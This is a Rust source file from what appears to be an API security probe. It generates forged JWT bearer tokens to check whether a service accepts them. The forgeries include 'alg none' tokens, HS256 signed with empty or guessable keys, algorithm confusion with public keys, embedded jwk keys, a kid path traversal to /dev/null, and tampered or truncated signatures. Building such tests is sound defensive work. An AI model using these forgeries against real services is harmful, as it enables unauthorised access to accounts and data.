//! Tokens that an attacker can make without any secret.

use serde_json::{Value, json};

use crate::{
    probe::{
        jwt::{self, Mac},
        nonce,
    },
    steps::state::Token,
};

/// Values of `Authorization` that an attacker can make without any secret, each with a word for
/// what it is.
pub fn forgeries(token: &Token, claims: &Value, public: &[String]) -> Vec<(String, String)> {
    let mut forged: Vec<(String, String)> = Vec::new();
    let mut add =
        |what: &str, token: String| forged.push((what.to_owned(), format!("Bearer {token}")));
    for none in ["none", "None", "NONE", "nOnE"] {
        let header = json!({"alg": none, "typ": "JWT"});
        add(
            &format!("alg {none}, no signature"),
            jwt::forge(&header, claims, Mac::None),
        );
    }
    let (head, payload, signature) = parts(&token.jwt);
    let none = jwt::encoded(&json!({"alg": "none", "typ": "JWT"}));
    add(
        "alg none with the genuine signature",
        format!("{none}.{payload}.{signature}"),
    );
    let hs256 = json!({"alg": "HS256", "typ": "JWT"});
    for (what, key) in [
        ("no key", String::new()),
        ("the key `secret`", "secret".to_owned()),
        ("the key `null`", "null".to_owned()),
        ("another key", format!("{}{}", nonce(), nonce())),
        ("its own id as key", token.id.clone()),
    ] {
        add(
            &format!("HS256 with {what}"),
            jwt::forge(&hs256, claims, Mac::Sha256(key.as_bytes())),
        );
    }
    for key in public {
        for alg in ["RS256", "HS256", "ES256", "PS256"] {
            let header = json!({"alg": alg, "typ": "JWT"});
            let token = jwt::forge(&header, claims, Mac::Sha256(key.as_bytes()));
            add(&format!("{alg}, an HMAC over public text"), token);
        }
    }
    let hs512 = jwt::encoded(&json!({"alg": "HS512", "typ": "JWT"}));
    add(
        "HS512 in the header, the genuine signature",
        format!("{hs512}.{payload}.{signature}"),
    );
    let jwk = json!({"alg": "HS256", "typ": "JWT", "jwk": {"kty": "oct", "k": "c2VjcmV0"}});
    add(
        "with a key of its own in the header",
        jwt::forge(&jwk, claims, Mac::Sha256(b"secret")),
    );
    let kid = json!({"alg": "HS256", "typ": "JWT", "kid": "../../../../dev/null"});
    add(
        "with a file as key id",
        jwt::forge(&kid, claims, Mac::Sha256(b"")),
    );
    let other = jwt::encoded(claims);
    add(
        "another payload under the genuine signature",
        format!("{head}.{other}.{signature}"),
    );
    add("the signature cut off", format!("{head}.{payload}."));
    add("two segments", format!("{head}.{payload}"));
    add(
        "the signature's first half",
        format!(
            "{head}.{payload}.{}",
            signature.get(..20).unwrap_or_default()
        ),
    );
    add(
        "the signature altered",
        format!("{head}.{payload}.{}", altered(signature)),
    );
    add("a fourth segment", format!("{}.{signature}", token.jwt));
    add("the genuine token twice", format!("{0}.{0}", token.jwt));
    add(
        "another payload behind the genuine token",
        format!("{}.{other}", token.jwt),
    );
    add("trailing data", format!("{}AAAA", token.jwt));
    add("trailing words", format!("{} or=1", token.jwt));
    add(
        "white space within",
        format!("{head}. {payload}.{signature}"),
    );
    add("three dots", "..".to_owned());
    add("no JSON", "YQ.YQ.YQ".to_owned());
    add("text", "undefined".to_owned());
    for (what, value) in [
        ("an empty header", ""),
        ("`Bearer` alone", "Bearer"),
        ("`Bearer` and a blank", "Bearer "),
        ("`Basic` with a name", "Basic YWRtaW46YWRtaW4="),
    ] {
        forged.push((what.to_owned(), value.to_owned()));
    }
    let wrong = jwt::forge(&hs256, claims, Mac::Sha256(b"another key"));
    for scheme in ["bearer", "BEARER", "JWT", "Token"] {
        forged.push((
            format!("scheme {scheme}, another key"),
            format!("{scheme} {wrong}"),
        ));
    }
    forged.push(("no scheme, another key".to_owned(), wrong));
    forged
}

/// Header, payload and signature.
pub fn parts(token: &str) -> (&str, &str, &str) {
    let mut parts = token.splitn(3, '.');
    let mut next = || parts.next().unwrap_or_default();
    (next(), next(), next())
}

/// The signature with its first character another one: every bit of that one counts.
fn altered(signature: &str) -> String {
    let first = if signature.starts_with('A') { "B" } else { "A" };
    format!("{first}{}", signature.get(1..).unwrap_or_default())
}
